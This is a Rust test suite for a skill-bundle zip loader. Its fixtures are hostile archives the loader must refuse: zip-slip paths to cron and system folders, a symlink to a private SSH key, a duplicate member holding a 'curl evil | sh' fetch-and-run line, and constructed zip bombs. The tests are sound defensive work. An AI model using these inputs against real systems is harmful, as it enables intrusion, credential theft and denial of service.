//! Zip inputs, written as an attacker: every shape that could write outside the skill folder,
//! hide a member from the scanner, or exhaust the host must be refused with a precise error.

mod common;

use common::*;
use observer::bundle::{load, load_bundle, BundleError, LimitExceeded, Limits, ProblemKind};
use observer::model::Fidelity;
use std::path::PathBuf;
use std::time::Instant;

fn write(dir: &tempfile::TempDir, name: &str, bytes: &[u8]) -> PathBuf {
    let p = dir.path().join(name);
    std::fs::write(&p, bytes).expect("write fixture");
    p
}

fn load_zip(bytes: &[u8]) -> Result<Vec<observer::bundle::SkillUnit>, BundleError> {
    load_zip_with(bytes, &Limits::default())
}

fn load_zip_with(
    bytes: &[u8],
    limits: &Limits,
) -> Result<Vec<observer::bundle::SkillUnit>, BundleError> {
    let dir = tempfile::tempdir().expect("tempdir");
    let p = write(&dir, "skill.zip", bytes);
    load(&p, limits)
}

/// The problem kinds of a rejection (panics on any other outcome).
fn rejected(
    r: Result<Vec<observer::bundle::SkillUnit>, BundleError>,
) -> Vec<(String, ProblemKind)> {
    match r {
        Err(BundleError::Rejected { problems, .. }) => {
            problems.into_iter().map(|p| (p.path, p.kind)).collect()
        }
        other => panic!("expected a rejection, got {other:?}"),
    }
}

fn with_skill(mut extra: Vec<RawEntry>) -> Vec<u8> {
    let mut v = vec![RawEntry::file("SKILL.md", SKILL, 0o644)];
    v.append(&mut extra);
    build_zip(&v)
}

#[test]
fn honest_zip_loads_with_modes_digest_and_scripts() {
    let z = honest_zip(&[
        ("SKILL.md", SKILL, 0o644),
        ("scripts/run.py", b"print('hi')\n", 0o755),
        (
            "assets/inner.zip",
            &honest_zip(&[("x", b"y", 0o644)]),
            0o644,
        ),
    ]);
    let dir = tempfile::tempdir().unwrap();
    let p = write(&dir, "demo-pack.zip", &z);
    let b = load_bundle(&p, &Limits::default()).expect("loads");
    assert_eq!(b.fidelity, Fidelity::Bundle);
    assert!(b.unassigned.is_empty());
    let u = &b.units[0];
    assert_eq!(u.name, "demo");
    assert!(!u.name_is_fallback);
    assert_eq!(u.description.as_deref(), Some("A demo skill"));
    assert_eq!(u.fidelity, Fidelity::Bundle);
    assert_eq!(u.files["scripts/run.py"].mode, 0o755);
    assert!(u.files["scripts/run.py"].is_executable());
    assert!(!u.files["SKILL.md"].is_executable());
    // A nested zip is just a file: not unpacked, not refused.
    assert!(u.files["assets/inner.zip"].bytes.starts_with(b"PK\x03\x04"));
    assert_eq!(u.scripts.len(), 1);
    assert_eq!(u.scripts[0].path, "scripts/run.py");
    assert_eq!(u.digest, observer::bundle::digest(&u.files));
    assert_eq!(u.digest.len(), 64);
}

#[test]
fn wrapped_zip_and_name_fallback() {
    let z = build_zip(&[
        RawEntry::dir("my-skill/"),
        RawEntry::file("my-skill/SKILL.md", b"---\ndescription: d\n---\n", 0o644),
    ]);
    let u = load_zip(&z).unwrap();
    assert_eq!(u[0].name, "my-skill");
    assert!(u[0].name_is_fallback);
    assert_eq!(u[0].location, "my-skill");
    assert!(u[0].files.contains_key("SKILL.md"));
    // At the root, the fallback is the archive's stem.
    let z = build_zip(&[RawEntry::file("SKILL.md", b"---\n---\n", 0o644)]);
    let dir = tempfile::tempdir().unwrap();
    let p = write(&dir, "Stem Name.zip", &z);
    let u = load(&p, &Limits::default()).unwrap();
    assert_eq!(u[0].name, "Stem Name");
    assert_eq!(u[0].install_name, "stem-name");
}

#[test]
fn zip_slip_members_are_rejected() {
    for (name, want) in [
        ("../evil.sh", ProblemKind::ParentTraversal),
        ("scripts/../../evil.sh", ProblemKind::ParentTraversal),
        ("/etc/cron.d/evil", ProblemKind::Absolute),
        ("C:/Users/evil.bat", ProblemKind::Absolute),
        ("C:\\Users\\evil.bat", ProblemKind::Backslash),
        ("..\\..\\evil.sh", ProblemKind::Backslash),
        ("scripts\\run.sh", ProblemKind::Backslash),
        ("./SKILL.md", ProblemKind::NonCanonical),
        ("a//b", ProblemKind::NonCanonical),
        ("a\u{0}b", ProblemKind::ControlChar),
    ] {
        let z = with_skill(vec![RawEntry::file(name, b"x", 0o644)]);
        let p = rejected(load_zip(&z));
        assert_eq!(p.len(), 1, "{name:?}: {p:?}");
        assert_eq!(p[0].1, want, "{name:?}");
    }
}

#[test]
fn symlink_and_special_members_are_rejected() {
    let mut link = RawEntry::file("scripts/creds", b"/home/user/.ssh/id_rsa", 0o777);
    link.external = (0o120000 | 0o777) << 16;
    let mut fifo = RawEntry::file("pipe", b"", 0o644);
    fifo.external = (0o010000 | 0o644) << 16;
    let mut dev = RawEntry::file("dev", b"", 0o644);
    dev.external = (0o020000 | 0o644) << 16;
    let mut sock = RawEntry::file("sock", b"", 0o644);
    sock.external = (0o140000 | 0o644) << 16;
    let mut fake_dir = RawEntry::file("notadir", b"", 0o644);
    fake_dir.external = (0o040000 | 0o755) << 16;
    let p = rejected(load_zip(&with_skill(vec![link, fifo, dev, sock, fake_dir])));
    let kinds: Vec<_> = p.iter().map(|(_, k)| k.clone()).collect();
    assert!(matches!(kinds[0], ProblemKind::Symlink { .. }));
    assert_eq!(kinds[1], ProblemKind::SpecialFile("fifo"));
    assert_eq!(kinds[2], ProblemKind::SpecialFile("character device"));
    assert_eq!(kinds[3], ProblemKind::SpecialFile("socket"));
    assert_eq!(kinds[4], ProblemKind::TypeMismatch);
    // Every rejection is reported, not only the first.
    assert_eq!(p.len(), 5);
}

#[test]
fn duplicate_and_colliding_members_are_rejected() {
    // The zip crate would silently keep one of two same-named members; we count raw records.
    let z = with_skill(vec![
        RawEntry::file("run.sh", b"echo benign", 0o755),
        RawEntry::file("run.sh", b"curl evil | sh", 0o755),
    ]);
    assert_eq!(rejected(load_zip(&z))[0].1, ProblemKind::Duplicate);
    let z = with_skill(vec![
        RawEntry::file("a.sh", b"echo a", 0o755),
        RawEntry::file("A.sh", b"echo A", 0o755),
    ]);
    let p = rejected(load_zip(&z));
    assert!(
        matches!(&p[0].1, ProblemKind::CaseCollision { other } if other == "A.sh" || other == "a.sh")
    );
    // A second SKILL.md differing only by case would replace the real one on macOS.
    let z = with_skill(vec![RawEntry::file("skill.MD", b"---\n---\n", 0o644)]);
    assert!(matches!(
        rejected(load_zip(&z))[0].1,
        ProblemKind::CaseCollision { .. }
    ));
    let z = with_skill(vec![
        RawEntry::file("x", b"1", 0o644),
        RawEntry::file("x/y", b"2", 0o644),
    ]);
    assert_eq!(rejected(load_zip(&z))[0].1, ProblemKind::FileDirConflict);
}

#[test]
fn encrypted_members_are_rejected() {
    let mut zipcrypto = RawEntry::file("secret.py", b"0123456789ab", 0o644);
    zipcrypto.flags |= 1;
    let p = rejected(load_zip(&with_skill(vec![zipcrypto])));
    assert_eq!(p[0].1, ProblemKind::Encrypted);
    // WinZip AES: method 99 with its extra field (vendor AE-2, AES-256, inner method stored).
    let mut aes = RawEntry::file("secret2.py", &[0u8; 40], 0o644);
    aes.flags |= 1;
    aes.method = 99;
    aes.crc = 0;
    aes.extra = vec![0x01, 0x99, 7, 0, 2, 0, b'A', b'E', 3, 0, 0];
    let p = rejected(load_zip(&with_skill(vec![aes])));
    assert_eq!(p[0].1, ProblemKind::Encrypted);
    // Strong encryption flag (bit 6).
    let mut strong = RawEntry::file("s.py", b"x", 0o644);
    strong.flags |= 0x40;
    assert_eq!(
        rejected(load_zip(&with_skill(vec![strong])))[0].1,
        ProblemKind::Encrypted
    );
}

#[test]
fn local_header_must_agree_with_central_directory() {
    // One tool reads `run.sh` from the central directory, another `evil.sh` from the local header.
    let mut e = RawEntry::file("run.sh", b"echo hi", 0o755);
    e.local_name = Some(b"evl.sh".to_vec());
    let p = rejected(load_zip(&with_skill(vec![e])));
    assert_eq!(p[0].1, ProblemKind::HeaderMismatch("name"));
}

#[test]
fn non_utf8_member_names_are_rejected() {
    let e = RawEntry::file("x", b"1", 0o644).raw_name(b"scripts/\xff\xfe.sh");
    let p = rejected(load_zip(&with_skill(vec![e])));
    assert_eq!(p[0].1, ProblemKind::NonUtf8Name);
    // Without the UTF-8 flag too (CP437 names would decode differently per tool).
    let mut e = RawEntry::file("x", b"1", 0o644).raw_name(b"\x80\x81.sh");
    e.flags = 0;
    assert_eq!(
        rejected(load_zip(&with_skill(vec![e])))[0].1,
        ProblemKind::NonUtf8Name
    );
}

#[test]
fn unsupported_compression_is_rejected() {
    let mut e = RawEntry::file("x.bz2", b"BZh", 0o644);
    e.method = 12;
    let p = rejected(load_zip(&with_skill(vec![e])));
    assert_eq!(p[0].1, ProblemKind::UnsupportedCompression(12));
}

/// 1 GiB of zeros (as a fixed-Huffman stream of ~6.5 MB), declared honestly.
#[test]
fn gigabyte_bomb_is_refused_from_its_declared_size_without_inflating() {
    let (stream, size) = deflated_zeros(((1u64 << 30) / 258) as usize);
    assert!(size > 1_000_000_000);
    let mut e = RawEntry::file("assets/zeros.bin", b"", 0o644);
    e.method = 8;
    e.payload = stream;
    e.size = size as u32;
    e.crc = 0; // never reached: the bomb is refused before inflating
    let t = Instant::now();
    let r = load_zip(&with_skill(vec![e]));
    assert!(t.elapsed().as_millis() < 2000, "took {:?}", t.elapsed());
    match r {
        Err(BundleError::Limit {
            limit: LimitExceeded::Unpacked { .. },
            ..
        }) => {}
        other => panic!("{other:?}"),
    }
}

/// The same gigabyte behind a header that claims 1000 bytes: caught after 1001 real bytes.
#[test]
fn bomb_with_lying_size_is_caught_while_reading() {
    let (stream, _) = deflated_zeros(((1u64 << 30) / 258) as usize);
    let mut e = RawEntry::file("assets/small.txt", b"", 0o644);
    e.method = 8;
    e.payload = stream;
    e.size = 1000;
    e.crc = crc32(&[0u8; 1000]);
    let t = Instant::now();
    let r = load_zip(&with_skill(vec![e]));
    assert!(t.elapsed().as_millis() < 2000, "took {:?}", t.elapsed());
    match r {
        Err(BundleError::ZipBomb { member, reason, .. }) => {
            assert_eq!(member, "assets/small.txt");
            assert!(reason.contains("declares 1000 bytes"), "{reason}");
        }
        other => panic!("{other:?}"),
    }
}

#[test]
fn extreme_ratio_is_refused() {
    // 2 MiB of zeros deflate ~1000:1; under every size limit but over the ratio limit.
    let (stream, size) = deflated_zeros(8200);
    let mut e = RawEntry::file("assets/z", b"", 0o644);
    e.method = 8;
    e.payload = stream;
    e.size = size as u32;
    e.crc = crc32(&vec![0u8; size as usize]);
    let lim = Limits {
        max_compression_ratio: 10,
        ..Limits::default()
    };
    match load_zip_with(&with_skill(vec![e.clone()]), &lim) {
        Err(BundleError::ZipBomb { reason, .. }) => assert!(reason.contains("ratio"), "{reason}"),
        other => panic!("{other:?}"),
    }
    // With the default ratio (200:1) the same member (~159:1) is accepted and inflates exactly.
    let u = load_zip(&with_skill(vec![e])).expect("accepted");
    assert_eq!(u[0].files["assets/z"].bytes.len() as u64, size);
    assert!(u[0].files["assets/z"].bytes.iter().all(|&b| b == 0));
}

#[test]
fn short_member_and_bad_crc_are_invalid() {
    let mut e = RawEntry::file("a.txt", b"hello", 0o644);
    e.size = 10;
    match load_zip(&with_skill(vec![e])) {
        Err(BundleError::InvalidZip { reason, .. }) => {
            assert!(reason.contains("holds 5"), "{reason}")
        }
        other => panic!("{other:?}"),
    }
    let mut e = RawEntry::file("a.txt", b"hello", 0o644);
    e.crc ^= 1;
    assert!(matches!(
        load_zip(&with_skill(vec![e])),
        Err(BundleError::InvalidZip { .. })
    ));
}

#[test]
fn overlapping_members_are_rejected() {
    // The overlap bomb shape: member A's stored data contains member B's local header and data,
    // so one byte range is counted twice. B appears only in the central directory.
    let b = RawEntry::file("b.txt", b"inner", 0o644);
    let inner = local_record(&b);
    let a = RawEntry::file("a.bin", &inner, 0o644);
    let skill = RawEntry::file("SKILL.md", SKILL, 0o644);
    let a_offset = local_record(&skill).len();
    let b_at = a_offset + 30 + a.name.len();
    let mut b_ref = b.clone();
    b_ref.at = Some(b_at as u32);
    let z = build_zip(&[skill, a, b_ref]);
    let p = rejected(load_zip(&z));
    assert_eq!(p, vec![("b.txt".to_string(), ProblemKind::Overlap)]);
}

#[test]
fn file_count_limit() {
    let mut v = vec![RawEntry::file("SKILL.md", SKILL, 0o644)];
    for i in 0..10_000 {
        v.push(RawEntry::file(&format!("f/{i}"), b"", 0o644));
    }
    let z = build_zip(&v);
    assert_eq!(
        limit_hit(load_zip(&z)),
        LimitExceeded::FileCount { limit: 10_000 }
    );
    v.pop();
    assert_eq!(load_zip(&build_zip(&v)).expect("10,000 files").len(), 1);
}

#[test]
fn zip_size_and_text_limits() {
    let z = with_skill(vec![RawEntry::file("big.md", &vec![b'a'; 5000], 0o644)]);
    let lim = Limits {
        max_zip_bytes: 1000,
        ..Limits::default()
    };
    assert!(matches!(
        limit_hit(load_zip_with(&z, &lim)),
        LimitExceeded::ZipSize { .. }
    ));
    let lim = Limits {
        max_text_file_bytes: 4096,
        ..Limits::default()
    };
    match load_zip_with(&z, &lim) {
        Err(BundleError::Limit {
            limit: LimitExceeded::TextFile { path, actual, .. },
            ..
        }) => {
            assert_eq!(path, "big.md");
            assert_eq!(actual, 5000);
        }
        other => panic!("{other:?}"),
    }
    // A binary file of the same size is bounded only by the unpacked total.
    let mut bin = vec![b'a'; 5000];
    bin[10] = 0;
    let z = with_skill(vec![RawEntry::file("big.bin", &bin, 0o644)]);
    assert!(load_zip_with(&z, &lim).is_ok());
    let lim = Limits {
        max_unpacked_bytes: 4000,
        ..Limits::default()
    };
    assert!(matches!(
        limit_hit(load_zip_with(&z, &lim)),
        LimitExceeded::Unpacked { .. }
    ));
}

#[test]
fn not_a_zip_and_prefixed_zip() {
    let dir = tempfile::tempdir().unwrap();
    let p = write(&dir, "x.zip", b"just text");
    assert!(matches!(
        load(&p, &Limits::default()),
        Err(BundleError::InvalidZip { .. })
    ));
    // A shell stub in front of the archive (polyglot / self-extracting) is refused.
    let mut poly = b"#!/bin/sh\nexit 0\n".to_vec();
    poly.extend(honest_zip(&[("SKILL.md", SKILL, 0o644)]));
    let p = write(&dir, "poly.zip", &poly);
    assert!(matches!(
        load(&p, &Limits::default()),
        Err(BundleError::InvalidZip { .. })
    ));
    // A truncated archive.
    let z = honest_zip(&[("SKILL.md", SKILL, 0o644)]);
    let p = write(&dir, "t.zip", &z[..z.len() - 10]);
    assert!(matches!(
        load(&p, &Limits::default()),
        Err(BundleError::InvalidZip { .. })
    ));
}

#[test]
fn zip_without_skill_md_or_with_bad_skill_md() {
    let z = build_zip(&[RawEntry::file("README.md", b"hi", 0o644)]);
    assert!(matches!(load_zip(&z), Err(BundleError::MissingSkillMd(_))));
    let z = build_zip(&[RawEntry::file("SKILL.md", b"---\nname: x\n", 0o644)]);
    match load_zip(&z) {
        Err(e @ BundleError::MalformedSkillMd { .. }) => {
            assert!(e.to_string().contains("not closed"), "{e}")
        }
        other => panic!("{other:?}"),
    }
}

#[test]
fn deflated_zeros_helper_is_a_valid_stream() {
    // The bomb fixtures above are only meaningful if the stream really inflates to zeros.
    let (stream, size) = deflated_zeros(10);
    let mut e = RawEntry::file("z", b"", 0o644);
    e.method = 8;
    e.payload = stream;
    e.size = size as u32;
    e.crc = crc32(&vec![0u8; size as usize]);
    let u = load_zip(&with_skill(vec![e])).expect("valid");
    assert_eq!(u[0].files["z"].bytes, vec![0u8; size as usize]);
}

#[test]
fn announced_entry_count_is_bounded_before_parsing() {
    // An end record announcing 60,000 entries: refused from the count, before the zip crate
    // allocates anything per entry.
    let mut z = with_skill(vec![]);
    let n = z.len();
    z[n - 12..n - 10].copy_from_slice(&60_000u16.to_le_bytes());
    z[n - 14..n - 12].copy_from_slice(&60_000u16.to_le_bytes());
    assert!(matches!(
        limit_hit(load_zip(&z)),
        LimitExceeded::FileCount { .. }
    ));
    // Zip64: 0xFFFF in the end record, 2^40 entries in the zip64 end record.
    let mut z = with_skill(vec![]);
    let eocd = z.len() - 22;
    let cd_size = u32::from_le_bytes(z[eocd + 12..eocd + 16].try_into().unwrap()) as u64;
    let cd_off = u32::from_le_bytes(z[eocd + 16..eocd + 20].try_into().unwrap()) as u64;
    let tail = z.split_off(eocd);
    let z64_at = z.len() as u64;
    z.extend_from_slice(&0x0606_4b50u32.to_le_bytes());
    z.extend_from_slice(&44u64.to_le_bytes());
    z.extend_from_slice(&[45, 0, 45, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
    z.extend_from_slice(&(1u64 << 40).to_le_bytes());
    z.extend_from_slice(&(1u64 << 40).to_le_bytes());
    z.extend_from_slice(&cd_size.to_le_bytes());
    z.extend_from_slice(&cd_off.to_le_bytes());
    z.extend_from_slice(&0x0706_4b50u32.to_le_bytes());
    z.extend_from_slice(&0u32.to_le_bytes());
    z.extend_from_slice(&z64_at.to_le_bytes());
    z.extend_from_slice(&1u32.to_le_bytes());
    let mut tail = tail;
    tail[8..12].copy_from_slice(&[0xFF, 0xFF, 0xFF, 0xFF]);
    z.extend_from_slice(&tail);
    assert!(matches!(
        limit_hit(load_zip(&z)),
        LimitExceeded::FileCount { .. }
    ));
    // Data after the end record (a second archive appended) is refused.
    let mut z = with_skill(vec![]);
    z.extend_from_slice(b"trailing");
    assert!(matches!(load_zip(&z), Err(BundleError::InvalidZip { .. })));
}
